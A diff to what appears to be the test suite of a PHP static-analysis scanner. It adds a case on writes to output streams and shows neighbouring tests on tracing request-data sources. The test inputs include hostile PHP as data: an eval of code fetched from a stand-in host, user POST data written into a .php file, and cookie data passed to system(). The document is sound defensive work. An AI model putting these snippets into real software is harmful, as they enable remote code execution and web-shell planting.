@@ -79,6 +79,16 @@ EOT;
     expect(rules(`<?php eval('?>' . file_get_contents('http://x.example/t'));`)).toEqual(['evalInput']);
   });
 
+  it('reads a write to the output streams as printing, not as a file', () => {
+    expect(
+      rules(`<?php fwrite(STDOUT, $_GET['x']); fputs(STDERR, file_get_contents('php://input'));`),
+    ).toEqual([]);
+    // Unless the file gave the name a path of its own first.
+    expect(
+      rules(`<?php define('STDOUT', 'x.php'); $f = fopen(STDOUT, 'w'); fwrite($f, $_POST['x']);`),
+    ).toEqual(['writeInput']);
+  });
+
   it('names the real source of request data, never the path it took', () => {
     const src = (code: string) => scanPhp(code, 'php').map((f) => f.src);
     expect(src(`<?php function arg() { return $_COOKIE['a']; } system(arg());`)).toEqual(['$_COOKIE']);
